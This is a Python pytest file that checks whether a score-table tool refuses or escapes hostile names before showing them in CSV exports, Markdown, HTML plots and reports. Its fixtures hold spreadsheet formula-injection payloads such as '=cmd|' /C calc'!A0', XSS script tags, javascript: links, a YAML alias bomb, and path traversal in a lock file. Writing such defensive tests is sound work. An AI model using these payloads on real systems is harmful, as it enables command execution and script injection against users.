"""Labels, ids and rows of other people do no harm in a terminal, a spreadsheet or a page, or are refused."""

import html
import io
import re
from pathlib import Path

import jinja2
import pandas as pd
import pytest
from docutils.core import publish_parts
from dvc_render.vega import VegaRenderer
from hypothesis import given
from hypothesis import strategies as st
from scoretable.archive.archive import Archive, open_archive
from scoretable.competition.sample import read_sample
from scoretable.competition.tables import refuse_harmful
from scoretable.experiments.experiment import find_experiment, list_experiments
from scoretable.manifest.manifest import read_manifest
from scoretable.table.export import write_csv
from scoretable.table.table import read_score_table
from scoretable.table.text import write_text
from scoretable.workspace.errors import InputError
from unit.archives import competition, encode, leaves, make_zip, photo
from unit.made_experiments import add_experiment, commit, git

ROOT = Path(__file__).parents[2]
ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]))


HARMFUL = [
    '=HYPERLINK("http://a.b?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    " =IMPORTXML(A1)",
    "\uff1dHYPERLINK(A1)",
    "\t=1",
    "\r=1",
    "a\x1b[2Jb",
    "a\x00b",
    "a\nb",
    "a\u2028b",
    "</script><script>alert(1)</script>",
    "<SCRIPT src=//a.b>",
    "<!--",
]
HARMLESS = [
    "-1", "+1", "-0.5", "-1e-5", "@home", "=", "+", "-", "=2", "-1 (bad)", "- none", "R&D", "a<b", "<5", "a > b", "a|b",
    "<b>bold</b>", "f(x)", "hot!", "벼 도열병", "a\u3000b", "it's", 'a"b', "../../etc/passwd", "$(touch pwned)", "`a`",
]  # fmt: skip


@pytest.mark.parametrize("name", HARMFUL)
def test_a_name_that_does_harm_where_it_is_shown_is_refused(name: str) -> None:
    with pytest.raises(InputError, match=r"^train.csv, column label: 1 value (with|that)"):
        refuse_harmful("train.csv", "label", ["blast", name])


@pytest.mark.parametrize("name", HARMLESS)
def test_a_name_that_competitions_have_is_taken(name: str) -> None:
    refuse_harmful("train.csv", "label", [name])


def quoted(text: str) -> bytes:
    return ('"' + text.replace('"', '""') + '"').encode()


# A tab or a line's end before a cell is not read, and what is left of these is a name like any other.
@pytest.mark.parametrize("name", sorted({name.strip() for name in HARMFUL} - {"=1"}))
@pytest.mark.parametrize("column", ["id", "label", "test id"])
def test_a_harmful_cell_of_a_competition_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, column: str
) -> None:
    members = leaves()
    if column == "label":
        members["train.csv"] += b"".join(b"%d.jpg," % number + quoted(name) + b"\n" for number in (7, 8))
    else:
        table = "train.csv" if column == "id" else "sample_submission.csv"
        members[table] += quoted(name) + b",blast\n"
    changed = competition(train={"table": "train.csv", "images": "all/{id}"}, test={"images": "all/{id}"})
    # Every id has its image, so that nothing but the harm is wrong. A zip cannot hold all of these names, so they are
    # added to those that the archive says it has.
    ids = [name, *(f"{number}.jpg" for number in (*range(9), 100, 101, 102))]
    monkeypatch.setattr(Archive, "names", [*members, *(f"all/{id_}" for id_ in ids)])
    with (
        open_archive(make_zip(tmp_path / "a.zip", members), tmp_path) as archive,
        pytest.raises(InputError, match=r"1 value (with|that)") as caught,
    ):
        read_manifest(archive, changed)
    assert str(caught.value).isprintable()


def test_a_harmful_id_of_a_training_image_is_refused_with_the_keys_that_number_the_rows(tmp_path: Path) -> None:
    members = leaves() | {
        "train.csv": b"image_id,label\n" + b"".join(b"\a%d.jpg,%s\n" % (n, b"ab"[n % 2 :][:1]) for n in range(4))
    }
    members |= {f"all/\a{number}.jpg": b"" for number in range(4)}
    with open_archive(make_zip(tmp_path / "a.zip", members), tmp_path) as archive:
        with pytest.raises(InputError, match=r"set train.id_column: null and name the images by \{image_id\} in train"):
            read_manifest(archive, competition(train={"table": "train.csv", "images": "all/{id}"}))
        by_number = {"table": "train.csv", "id_column": None, "images": "all/{image_id}"}
        assert read_manifest(archive, competition(train=by_number)).train["id"].tolist() == ["1", "2", "3", "4"]


def test_a_class_that_only_splitting_reveals_is_refused(tmp_path: Path) -> None:
    members = leaves()
    members["train.csv"] = (
        members["train.csv"].replace(b",blast", b",blast =HYPERLINK(A1)").replace(b"normal", b"blast", 1)
    )
    changed = competition(task="multilabel", train={"table": "train.csv", "images": "train_images/{id}"})
    members |= {f"train_images/{number}.jpg": encode(photo(8, 8)) for number in range(6)}
    with (
        open_archive(make_zip(tmp_path / "a.zip", members), tmp_path) as archive,
        pytest.raises(InputError, match="run"),
    ):
        read_manifest(archive, changed)


def test_a_formula_in_any_column_of_the_sample_is_refused(tmp_path: Path) -> None:
    sample = b"image_id,label,note\n100.jpg,,=HYPERLINK(A1)\n"
    path = make_zip(tmp_path / "a.zip", leaves() | {"sample_submission.csv": sample})
    with pytest.raises(InputError, match=r"sample_submission.csv, column note: 1 value that a spreadsheet would run"):
        read_sample(path, competition().submission)


def test_an_id_may_stand_twice_in_the_pattern_of_folders(tmp_path: Path) -> None:
    members = leaves() | {f"t/{label}/{id_}/{id_}.jpg": b"" for label in "ab" for id_ in ("1", "2", "3")}
    changed = competition(train={"label_column": None, "images": "t/{label}/{id}/{id}.jpg"})
    with open_archive(make_zip(tmp_path / "a.zip", members), tmp_path) as archive:
        assert len(read_manifest(archive, changed).train) == 6


@given(st.lists(ANY_TEXT | st.sampled_from(HARMLESS), min_size=1))
def test_dvcs_page_of_plots_keeps_the_names_that_are_taken_in_their_element(names: list[str]) -> None:
    try:
        refuse_harmful("train.csv", "label", names)
    except InputError:
        return
    points = [{"actual": name, "predicted": name, "rev": "a"} for name in names]
    page = VegaRenderer(points, "plot", x="actual", y="predicted", template="confusion").generate_html()
    assert re.findall(r"</?script|<!--", page, re.IGNORECASE) == ["<script", "</script"]


def test_markdown_shows_html_in_names_as_text(repository: Path) -> None:
    add_experiment(repository, "a<img>|b", 0.6, 0.7)
    assert "a&lt;img&gt;&#124;b" in write_text(read_score_table(repository), "github")


def test_a_spreadsheet_takes_no_name_of_a_row_and_no_param_for_a_formula(repository: Path) -> None:
    add_experiment(repository, "=cmd|'/c'!A0", 0.6, 0.7, weights="@SUM(1,2)")
    lines = pd.read_csv(io.StringIO(write_csv(read_score_table(repository))), dtype=str, keep_default_na=False)
    assert (lines["name"].iloc[-1], lines["weights"].iloc[-1]) == ("'=cmd|'/c'!A0", "'@SUM(1,2)")


def test_a_report_shows_markup_in_params_as_text() -> None:
    attack = (
        "a\n\n.. raw:: html\n\n   <script>alert(1)</script>\n\n`` `b <javascript:alert(1)>`__ ``\u2028.. raw:: html"
    )
    template = jinja2.Template((ROOT / "workflow/report/row.rst").read_text())
    text = template.render(snakemake={"config": {"params": {"archive": attack, "epochs": 5}}})
    page = publish_parts(text, writer="html")["body"]
    assert "<script" not in page
    assert "href" not in page
    assert "epochs: 5" in html.unescape(page)


@pytest.mark.parametrize(
    ("path", "content"),
    [
        ("params.yaml", "a: &a [*a]"),
        ("params.yaml", b"\xff\xfe"),
        ("session.yaml", "a: &a [*a]"),
        ("session.yaml", b"\xff\xfe"),
        ("models/score.json", "[" * 100_000),
        ("models/score.json", "[1]"),
        ("models/score.json", b"\xff"),
        ("models/submission.json", "[1]"),
    ],
)
def test_a_hostile_row_is_refused_by_its_name(repository: Path, path: str, content: str | bytes) -> None:
    add_experiment(repository, "bad", 0.6)
    baseline = git(repository, "rev-parse", "HEAD")
    (repository / "models").mkdir(exist_ok=True)
    (repository / path).write_bytes(content if isinstance(content, bytes) else content.encode())
    git(repository, "update-ref", f"refs/exps/{baseline[:2]}/{baseline[2:]}/bad", commit(repository))
    with pytest.raises(InputError, match=f"^{path} of row bad "):
        list_experiments(repository)


def test_a_lock_cannot_lead_out_of_the_cache(repository: Path) -> None:
    add_experiment(repository, "one", 0.6)
    lock = "stages:\n  a:\n    outs:\n    - path: models/history.csv\n      md5: ../../../../../params.yaml\n"
    experiment = find_experiment(repository, "one")
    with pytest.raises(InputError, match="is not an MD5"):
        type(experiment)(**{**vars(experiment), "lock": lock}).cached("models/history.csv")
